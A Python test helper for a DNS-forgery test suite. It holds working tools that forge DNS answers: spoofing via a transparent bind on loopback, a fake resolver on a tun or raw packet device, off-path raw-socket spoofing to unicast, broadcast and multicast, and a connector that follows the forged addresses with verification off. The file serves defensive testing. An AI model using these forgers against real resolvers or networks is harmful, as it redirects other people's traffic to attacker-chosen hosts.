#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""DNS clients and forgers for test_dns_forge.sh (issue 9, class 2: forged
DNS answers).  Stdlib only; run with python3 -I -S.

  dnsattack.py query SERVER NAME [--type A|AAAA] [--sport P] [--id N]
                     [--extra-port P2] [--wait S] [--trigger FILE]
        One query from an unconnected UDP socket (bound to SPORT, or an
        ephemeral port), then every datagram that reaches it (and the one
        bound to P2) within S seconds, in arrival order:
          sent id=ID sport=P to SERVER
          answer port=LOCALPORT from SRC:SPORT to DST id=ID addrs=A,B|-
        DST is the datagram's destination address (IP_PKTINFO), so a
        broadcast or multicast answer shows as such.  --trigger creates FILE
        once the query is sent.  Exit 0 when an answer arrived.

  dnsattack.py loopforge SERVER NAME --own OWN --forged ADDR [--type]
                     [--wait S]
        The same query, then a forged response to it from SERVER:53 to
        OWN:sport (the query's own source), sent over loopback from a socket
        bound to SERVER:53, an address of somebody else: IP_TRANSPARENT
        (IPv4; needs CAP_NET_RAW) or IPV6_FREEBIND (IPv6; no privilege).
        Prints "whoami uid=U capeff=HEX", then "forged-sent ..." (or
        "forged-error ..."), then the answers as above.

  dnsattack.py l3forge (--tun NAME | --packet DEV) --a ADDR --aaaa ADDR
                     --log FILE --ready FILE
        A fake resolver below IP: on a tun device it creates (IFF_TUN,
        IFF_NO_PI; gone when the process ends), or with an AF_PACKET socket
        on DEV (the far end of a veth pair).  Every UDP query to port 53 it
        reads is answered at once, from the queried address and port, with
        ADDR (A) or AAAA (AAAA), written back into the tun or sent on DEV.
        Logs "query NAME TYPE from SRC:SPORT to DST id=ID via DEV
        answered=N" per query.

  dnsattack.py connect ADDR,PORT,NAME [ADDR,PORT,NAME ...] [--timeout S]
        What the attacker does with a forged address: one connection per
        target, in turn; on 443 a TLS ClientHello (python ssl) with SNI
        NAME, on other ports an HTTP/1.1 request with Host NAME.  One line
        per target, netprobe.py's words:
          ADDR PORT ok|refused|timeout|error SECONDS STAGE: DETAIL
        (STAGE connect, send or answer).  Exit 0 when every one was ok.

  dnsattack.py spoof SERVER NAME --id N --forged ADDR [--type]
                     --send DST,DPORT,SPORT [--send ...] [--ifname DEV]
                     [--trigger FILE]
        Off-path answers from a raw socket (root, in the resolver's
        namespace): waits for FILE, then sends one response per --send, with
        source SERVER:SPORT to DST:DPORT (a broadcast address needs no
        option; a link-local multicast DST uses --ifname).
"""
import argparse
import fcntl
import os
import random
import socket
import struct
import sys
import time

TYPES = {"A": 1, "AAAA": 28}
IP_TRANSPARENT, IPV6_FREEBIND = 19, 78
IP_PKTINFO, IPV6_RECVPKTINFO, IPV6_PKTINFO = 8, 49, 50
IPV6_CHECKSUM = 7
TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 0x0001, 0x1000
ETH_P_ALL, ETH_P_IP, ETH_P_IPV6 = 0x0003, 0x0800, 0x86DD
PACKET_OUTGOING = 4


def fam(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def say(*words):
    print(" ".join(str(w) for w in words), flush=True)


# ---------------------------------------------------------------- DNS
def encode_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def build_query(qid, name, qtype):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + \
        encode_name(name) + struct.pack("!HH", qtype, 1)


def build_response(qid, name, qtype, addrs, ttl=300):
    """An authoritative answer echoing the question; addrs of qtype only."""
    af = socket.AF_INET if qtype == 1 else socket.AF_INET6
    rr = [socket.inet_pton(af, a) for a in addrs if fam(a) == af]
    out = struct.pack("!HHHHHH", qid, 0x8580, 1, len(rr), 0, 0) + \
        encode_name(name) + struct.pack("!HH", qtype, 1)
    for data in rr:
        out += struct.pack("!HHHIH", 0xC00C, qtype, 1, ttl, len(data)) + data
    return out, len(rr)


def skip_name(msg, i):
    while i < len(msg):
        n = msg[i]
        if n & 0xC0 == 0xC0:
            return i + 2
        if n == 0:
            return i + 1
        i += 1 + n
    raise ValueError("name runs past the message")


def parse_question(msg):
    """(id, name, qtype) of a query, or None."""
    if len(msg) < 12:
        return None
    qid, flags, qd = struct.unpack("!HHH", msg[:6])
    if flags & 0x8000 or qd != 1:
        return None
    labels, i = [], 12
    while i < len(msg) and msg[i]:
        n = msg[i]
        if n & 0xC0 or i + 1 + n > len(msg):
            return None
        labels.append(msg[i + 1:i + 1 + n].decode("latin-1"))
        i += 1 + n
    if i + 5 > len(msg):
        return None
    return qid, ".".join(labels), struct.unpack("!H", msg[i + 1:i + 3])[0]


def answer_addrs(msg):
    """(id, [addresses]) of a response's A/AAAA records."""
    qid, _, qd, an = struct.unpack("!HHHH", msg[:8])
    i = 12
    for _ in range(qd):
        i = skip_name(msg, i) + 4
    addrs = []
    for _ in range(an):
        i = skip_name(msg, i)
        t, _, _, rdlen = struct.unpack("!HHIH", msg[i:i + 10])
        data = msg[i + 10:i + 10 + rdlen]
        if t == 1 and rdlen == 4:
            addrs.append(socket.inet_ntop(socket.AF_INET, data))
        elif t == 28 and rdlen == 16:
            addrs.append(socket.inet_ntop(socket.AF_INET6, data))
        i += 10 + rdlen
    return qid, addrs


# ---------------------------------------------------------------- clients
def client_socket(af, port):
    s = socket.socket(af, socket.SOCK_DGRAM)
    if af == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_RECVPKTINFO, 1)
    else:
        s.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)
    s.bind(("::" if af == socket.AF_INET6 else "0.0.0.0", port))
    return s


def pktinfo_dst(ancdata):
    for level, typ, data in ancdata:
        if level == socket.IPPROTO_IP and typ == IP_PKTINFO and len(data) >= 12:
            return socket.inet_ntop(socket.AF_INET, data[8:12])
        if level == socket.IPPROTO_IPV6 and typ == IPV6_PKTINFO and len(data) >= 16:
            return socket.inet_ntop(socket.AF_INET6, data[:16])
    return "?"


def collect(socks, wait):
    """Print every datagram reaching socks within wait seconds."""
    import select
    n = 0
    end = time.monotonic() + wait
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return n
        ready, _, _ = select.select(socks, [], [], left)
        for s in ready:
            msg, anc, _, peer = s.recvmsg(65535, 256)
            try:
                qid, addrs = answer_addrs(msg)
                detail = "id=%d addrs=%s" % (qid, ",".join(addrs) or "-")
            except (ValueError, struct.error):
                detail = "unparsable len=%d" % len(msg)
            say("answer port=%d from %s:%d to %s %s"
                % (s.getsockname()[1], peer[0], peer[1], pktinfo_dst(anc), detail))
            n += 1


def send_query(args, sock):
    qid = args.id if args.id is not None else random.randrange(1, 65536)
    sock.sendto(build_query(qid, args.name, TYPES[args.type]), (args.server, 53))
    sport = sock.getsockname()[1]
    say("sent id=%d sport=%d to %s" % (qid, sport, args.server))
    return qid, sport


def query(args):
    af = fam(args.server)
    socks = [client_socket(af, args.sport)]
    if args.extra_port:
        socks.append(client_socket(af, args.extra_port))
    send_query(args, socks[0])
    if args.trigger:
        open(args.trigger, "w").close()
    return 0 if collect(socks, args.wait) else 1


def loopforge(args):
    af = fam(args.server)
    caps = "?"
    for line in open("/proc/self/status"):
        if line.startswith("CapEff:"):
            caps = line.split()[1]
    say("whoami uid=%d capeff=%s" % (os.getuid(), caps))
    sock = client_socket(af, 0)
    qid, sport = send_query(args, sock)
    f = socket.socket(af, socket.SOCK_DGRAM)
    try:
        if af == socket.AF_INET6:
            f.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        else:
            f.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
        f.bind((args.server, 53))
        out, n = build_response(qid, args.name, TYPES[args.type], [args.forged])
        f.sendto(out, (args.own, sport))
        say("forged-sent from %s:53 to %s:%d id=%d addrs=%s"
            % (args.server, args.own, sport, qid, args.forged))
    except OSError as e:
        say("forged-error %s" % e)
    return 0 if collect([sock], args.wait) else 1


# ---------------------------------------------------------------- below IP
def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp_packet(src, dst, sport, dport, payload):
    """A whole IPv4 or IPv6 packet carrying one UDP datagram."""
    ulen = 8 + len(payload)
    if fam(src) == socket.AF_INET:
        s, d = socket.inet_aton(src), socket.inet_aton(dst)
        udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, 64, 17, 0, s, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        return ip + udp
    s = socket.inet_pton(socket.AF_INET6, src)
    d = socket.inet_pton(socket.AF_INET6, dst)
    pseudo = s + d + struct.pack("!IxxxB", ulen, 17)
    c = csum(pseudo + struct.pack("!HHHH", sport, dport, ulen, 0) + payload) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, ulen, c) + payload
    return struct.pack("!IHBB16s16s", 0x60000000, ulen, 17, 64, s, d) + udp


def parse_udp(pkt):
    """(src, dst, sport, dport, payload) of an IPv4/IPv6 UDP packet, or None."""
    if not pkt:
        return None
    if pkt[0] >> 4 == 4 and len(pkt) >= 28:
        ihl = (pkt[0] & 0xF) * 4
        if pkt[9] != 17 or len(pkt) < ihl + 8:
            return None
        src = socket.inet_ntop(socket.AF_INET, pkt[12:16])
        dst = socket.inet_ntop(socket.AF_INET, pkt[16:20])
        sport, dport = struct.unpack("!HH", pkt[ihl:ihl + 4])
        return src, dst, sport, dport, pkt[ihl + 8:]
    if pkt[0] >> 4 == 6 and len(pkt) >= 48:
        if pkt[6] != 17:
            return None
        src = socket.inet_ntop(socket.AF_INET6, pkt[8:24])
        dst = socket.inet_ntop(socket.AF_INET6, pkt[24:40])
        sport, dport = struct.unpack("!HH", pkt[40:44])
        return src, dst, sport, dport, pkt[48:]
    return None


def l3forge(args):
    logf = open(args.log, "a", buffering=1)

    def log(line):
        logf.write(line + "\n")
        logf.flush()

    if args.tun:
        fd = os.open("/dev/net/tun", os.O_RDWR)
        fcntl.ioctl(fd, TUNSETIFF, struct.pack("16sH", args.tun.encode(), IFF_TUN | IFF_NO_PI))
        dev = args.tun
        read = lambda: (os.read(fd, 65535), None)        # noqa: E731
        write = lambda pkt, hdr: os.write(fd, pkt)       # noqa: E731
    else:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind((args.packet, 0))
        dev = args.packet

        def read():
            frame, addr = s.recvfrom(65535)
            if addr[2] == PACKET_OUTGOING or len(frame) < 14:
                return b"", None
            return frame[14:], frame[:14]

        def write(pkt, hdr):
            eth_type = ETH_P_IP if pkt[0] >> 4 == 4 else ETH_P_IPV6
            # back to the sender's MAC, from the MAC it was sent to
            s.send(hdr[6:12] + hdr[0:6] + struct.pack("!H", eth_type) + pkt)

    log("listening on %s" % dev)
    open(args.ready, "w").close()
    while True:
        pkt, hdr = read()
        u = parse_udp(pkt)
        if not u or u[3] != 53:
            continue
        src, dst, sport, _, payload = u
        q = parse_question(payload)
        if not q:
            continue
        qid, name, qtype = q
        out, n = build_response(qid, name, qtype, [args.a] if qtype == 1 else
                                [args.aaaa] if qtype == 28 else [])
        try:
            write(udp_packet(dst, src, 53, sport, out), hdr)
            sent = "answered=%d" % n
        except OSError as e:
            sent = "error=%s" % e
        log("query %s %s from %s:%d to %s id=%d via %s %s"
            % (name, {1: "A", 28: "AAAA"}.get(qtype, qtype), src, sport, dst,
               qid, dev, sent))


def connect(args):
    import errno
    rc = 0
    for target in args.targets:
        addr, port, name = target.split(",")
        port = int(port)
        start = time.monotonic()
        stage = "connect"
        s = socket.socket(fam(addr), socket.SOCK_STREAM)
        s.settimeout(args.timeout)
        try:
            s.connect((addr, port))
            stage = "send"
            if port == 443:
                import ssl
                ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
                inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
                obj = ctx.wrap_bio(inc, out, server_hostname=name)
                try:
                    obj.do_handshake()
                except ssl.SSLWantReadError:
                    pass
                s.sendall(out.read())
            else:
                s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
                           % name).encode())
            stage = "answer"
            got = s.recv(65536)
            word, detail = "ok", "answer=%d" % len(got)
        except socket.timeout:
            word, detail = "timeout", "timed out"
        except OSError as e:
            name_ = errno.errorcode.get(e.errno, str(e.errno))
            word = "refused" if e.errno in (errno.ECONNREFUSED, errno.ECONNRESET,
                                            errno.EPIPE, errno.EPERM) else "error"
            detail = name_
        finally:
            s.close()
        say("%s %d %s %.3f %s: %s" % (addr, port, word, time.monotonic() - start,
                                      stage, detail))
        rc |= word != "ok"
    return int(rc)


def spoof(args):
    af = fam(args.server)
    s = socket.socket(af, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.bind((args.server, 0))
    if af == socket.AF_INET:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    else:
        # the kernel fills in the UDP checksum at offset 6
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_CHECKSUM, 6)
    if args.trigger:
        end = time.monotonic() + 30
        while not os.path.exists(args.trigger) and time.monotonic() < end:
            time.sleep(0.01)
    out, _ = build_response(args.id, args.name, TYPES[args.type], [args.forged])
    rc = 0
    for spec in args.send:
        dst, dport, sport = spec.rsplit(",", 2)
        udp = struct.pack("!HHHH", int(sport), int(dport), 8 + len(out), 0) + out
        to = (dst, 0)
        if af == socket.AF_INET6:
            scope = socket.if_nametoindex(args.ifname) if args.ifname else 0
            to = (dst, 0, 0, scope)
        try:
            s.sendto(udp, to)
            say("spoofed from %s:%s to %s:%s id=%d addrs=%s"
                % (args.server, sport, dst, dport, args.id, args.forged))
        except OSError as e:
            say("spoof-error to %s:%s: %s" % (dst, dport, e))
            rc = 1
    return rc


def main():
    p = argparse.ArgumentParser(description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)

    def common(q):
        q.add_argument("server")
        q.add_argument("name")
        q.add_argument("--type", choices=tuple(TYPES), default="A")

    q = sub.add_parser("query")
    common(q)
    q.add_argument("--sport", type=int, default=0)
    q.add_argument("--id", type=int)
    q.add_argument("--extra-port", type=int, default=0)
    q.add_argument("--wait", type=float, default=3)
    q.add_argument("--trigger")
    q.set_defaults(func=query)
    q = sub.add_parser("loopforge")
    common(q)
    q.add_argument("--own", required=True)
    q.add_argument("--forged", required=True)
    q.add_argument("--id", type=int)
    q.add_argument("--wait", type=float, default=3)
    q.set_defaults(func=loopforge)
    q = sub.add_parser("l3forge")
    g = q.add_mutually_exclusive_group(required=True)
    g.add_argument("--tun")
    g.add_argument("--packet")
    q.add_argument("--a", required=True)
    q.add_argument("--aaaa", required=True)
    q.add_argument("--log", required=True)
    q.add_argument("--ready", required=True)
    q.set_defaults(func=l3forge)
    q = sub.add_parser("connect")
    q.add_argument("targets", nargs="+")
    q.add_argument("--timeout", type=float, default=5)
    q.set_defaults(func=connect)
    q = sub.add_parser("spoof")
    common(q)
    q.add_argument("--id", type=int, required=True)
    q.add_argument("--forged", required=True)
    q.add_argument("--send", action="append", required=True)
    q.add_argument("--ifname")
    q.add_argument("--trigger")
    q.set_defaults(func=spoof)
    args = p.parse_args()
    sys.exit(args.func(args))


if __name__ == "__main__":
    main()
